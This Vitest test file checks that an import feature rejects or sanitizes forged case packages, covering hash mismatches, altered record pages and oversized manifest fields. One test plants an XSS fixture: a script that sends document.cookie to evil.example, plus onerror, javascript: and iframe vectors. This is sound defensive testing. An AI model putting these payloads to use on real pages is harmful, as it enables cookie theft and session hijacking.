// @vitest-environment node
// A package from someone else is untrusted input: every hash is recomputed, record pages are sanitized
// exactly as a clip is, and every manifest field is bounded. Each tampering has one expected outcome.
import { afterEach, describe, expect, it } from 'vitest';
import { CaseDb } from '../../../lib/core/db';
import { sha256Hex } from '../../../lib/core/hash';
import { SNAPSHOT_END, SNAPSHOT_START } from '../../../lib/export';
import { packageEntries } from '../../../lib/export/package';
import type { PackageEntry } from '../../../lib/export/package-input';
import { importCase } from '../../../lib/import/import-case';
import { readPackage, type ImportedPackage } from '../../../lib/import/package-import';
import { nodeSanitizer } from '../../harness/node-sanitizer';
import { collect, packageInput, RECORDS } from '../helpers/synthetic-case';
import { zipEntries } from '../helpers/zip-build';

const sanitize = nodeSanitizer();
const dbs: CaseDb[] = [];
afterEach(async () => {
  for (const db of dbs.splice(0)) await db.delete();
});
const decode = (data: Uint8Array) => new TextDecoder().decode(data);
const encode = (text: string) => new TextEncoder().encode(text);
type Json = any;

/** A genuine package of the synthetic case (real content hashes). */
async function genuine(): Promise<PackageEntry[]> {
  const records = await Promise.all(RECORDS.map(async (r) => ({ ...r, contentHash: await sha256Hex(r.snapshotHtml) })));
  return collect(packageEntries(await packageInput({ records })));
}

/**
 * A forger's edit: changes some files, then (unless told not to) rewrites the manifest's size and
 * SHA-256 of every file so the package is consistent with itself, as a careful forger would.
 */
async function forge(
  entries: PackageEntry[],
  edit: { files?: (path: string, data: Uint8Array) => Uint8Array; manifest?: (json: Json) => void },
  relist = true,
): Promise<Uint8Array> {
  const changed = entries.map((e) =>
    e.path === 'data/manifest.json' ? e : { ...e, data: edit.files?.(e.path, e.data) ?? e.data },
  );
  const manifestEntry = changed.find((e) => e.path === 'data/manifest.json')!;
  const json = JSON.parse(decode(manifestEntry.data));
  if (relist) {
    for (const file of json.files) {
      const data = changed.find((e) => e.path === file.path)!.data;
      file.size = data.byteLength;
      file.sha256 = await sha256Hex(data);
    }
    for (const record of json.records)
      for (const a of record.attachments ?? [])
        Object.assign(
          a,
          json.files.find((f: Json) => f.path === a.path),
        );
  }
  edit.manifest?.(json);
  return zipEntries(changed.map((e) => (e === manifestEntry ? { ...e, data: encode(JSON.stringify(json)) } : e)));
}

const recordPage = (entries: PackageEntry[], title: string) =>
  entries.find((e) => e.path.endsWith('/record.html') && decode(e.data).includes(`<h2>${title}</h2>`))!.path;

interface Outcome {
  refused?: { code: string; detail: string };
  db?: CaseDb;
  read?: ImportedPackage;
  altered?: string[];
}

async function importZip(zip: Uint8Array): Promise<Outcome> {
  const read = await readPackage(zip);
  if (!read.ok) return { refused: read.error };
  const db = new CaseDb(`foreign-${crypto.randomUUID()}`);
  dbs.push(db);
  const imported = await importCase(db, read.data, { sanitize });
  return { db, read: read.data, altered: imported.altered };
}

describe('a changed file', () => {
  it('an attachment changed after export is refused as hash-mismatch, naming the file', async () => {
    const entries = await genuine();
    const zip = await forge(
      entries,
      {
        files: (path, data) => (path.endsWith('.png') ? Uint8Array.from(data, (b, i) => (i === 20 ? b ^ 1 : b)) : data),
      },
      false,
    );
    const { refused } = await importZip(zip);
    expect(refused).toMatchObject({ code: 'hash-mismatch' });
    expect(refused!.detail).toMatch(/files\/key-image(-2)?\.png$/);
  });

  it('a record page changed and re-listed is imported with the hash of what was stored, and flagged', async () => {
    const entries = await genuine();
    const page = recordPage(entries, 'CT chest with contrast');
    const zip = await forge(entries, {
      files: (path, data) =>
        path === page ? encode(decode(data).replace('9 mm', '19 mm').replace('Snapshot of', 'Altered copy of')) : data,
    });
    const result = await importZip(zip);
    expect(result.refused).toBeUndefined();
    const records = await result.db!.records.toArray();
    const ct = records.find((r) => r.title === 'CT chest with contrast')!;
    expect(ct.snapshotHtml).toContain('Altered copy of');
    // The stored hash is computed from the stored page, never copied from the manifest.
    expect(ct.contentHash).toBe(await sha256Hex(ct.snapshotHtml));
    expect(ct.contentHash).not.toBe(await sha256Hex(RECORDS.find((r) => r.id === 'rec-ct')!.snapshotHtml));
    expect(result.altered).toEqual(['rec-ct']);
    for (const r of records) expect(r.contentHash).toBe(await sha256Hex(r.snapshotHtml));
  });

  it('stores each attachment with the SHA-256 of its bytes', async () => {
    const result = await importZip(await zipEntries(await genuine()));
    for (const a of await result.db!.attachments.toArray())
      expect(a.sha256).toBe(await sha256Hex(new Uint8Array(await a.blob.arrayBuffer())));
  });
});

describe('a script in a record page', () => {
  it('is removed by the clip sanitizer before storage; the record text stays, and the record is flagged', async () => {
    const entries = await genuine();
    const page = recordPage(entries, 'Bronchoscopy biopsy');
    const hostile =
      '<h2>Bronchoscopy biopsy</h2><p>Snapshot of rec-path</p><script>fetch("https://evil.example/"+document.cookie)</script>' +
      '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">open</a><iframe src="https://evil.example/"></iframe>';
    const forgedHash = await sha256Hex(hostile);
    const genuineHash = await sha256Hex(RECORDS.find((r) => r.id === 'rec-path')!.snapshotHtml);
    const result = await importZip(
      await forge(entries, {
        files: (path, data) => {
          // record.txt's header names the content hash too: the forger rewrites it.
          if (path === page.replace(/html$/, 'txt')) return encode(decode(data).replace(genuineHash, forgedHash));
          if (path !== page) return data;
          const html = decode(data);
          const start = html.indexOf(SNAPSHOT_START) + SNAPSHOT_START.length;
          return encode(html.slice(0, start) + hostile + html.slice(html.lastIndexOf(SNAPSHOT_END)));
        },
        // A careful forger also sets the record's content hash to the hostile page's.
        manifest: (json) => {
          json.records.find((r: Json) => r.id === 'rec-path').contentHash = forgedHash;
        },
      }),
    );
    expect(result.refused, JSON.stringify(result.refused)).toBeUndefined();
    // readPackage saw the hostile page; what was stored is the sanitized one.
    expect(result.read!.records.find((r) => r.packageId === 'rec-path')!.snapshotHtml).toContain('<script>');
    const stored = (await result.db!.records.toArray()).find((r) => r.title === 'Bronchoscopy biopsy')!;
    expect(stored.snapshotHtml).not.toMatch(/<script|onerror|javascript:|<iframe|evil\.example/i);
    expect(stored.snapshotHtml).toContain('<p>Snapshot of rec-path</p>');
    expect(stored.contentHash).toBe(await sha256Hex(stored.snapshotHtml));
    expect(result.altered).toEqual(['rec-path']);
  });
});

describe('an oversized field', () => {
  it.each([
    ['a record title of 5,000 characters', (j: Json) => (j.records[0].title = 'T'.repeat(5000)), 'records.0.title'],
    ['a record note of 1 MB', (j: Json) => (j.records[1].note = 'N'.repeat(1_000_000)), 'records.1.note'],
    ['a case title of 10,000 characters', (j: Json) => (j.case.title = 'C'.repeat(10_000)), 'case.title'],
    ['a generator name of 100,000 characters', (j: Json) => (j.generator.name = 'G'.repeat(100_000)), 'generator.name'],
    [
      'a lab value of 100,000 characters',
      (j: Json) =>
        (j.records.find((r: Json) => r.structured?.type === 'lab').structured.results[0].value = 'V'.repeat(100_000)),
      '.structured.results.0.value',
    ],
    [
      '20,000 opinions',
      (j: Json) => (j.opinions = Array.from({ length: 20_000 }, (_, i) => ({ id: `o${i}` }))),
      'opinions',
    ],
    [
      'a question link list of 100,000 ids',
      (j: Json) => (j.questions[0].recordIds = Array.from({ length: 100_000 }, () => 'x')),
      'questions.0.recordIds',
    ],
  ])('%s is refused as invalid-manifest, naming the field', async (_name, edit, path) => {
    const { refused } = await importZip(await forge(await genuine(), { manifest: edit }));
    expect(refused).toMatchObject({ code: 'invalid-manifest' });
    expect(refused!.detail).toContain(path);
    expect(refused!.detail).toMatch(/too_big/);
  });
});
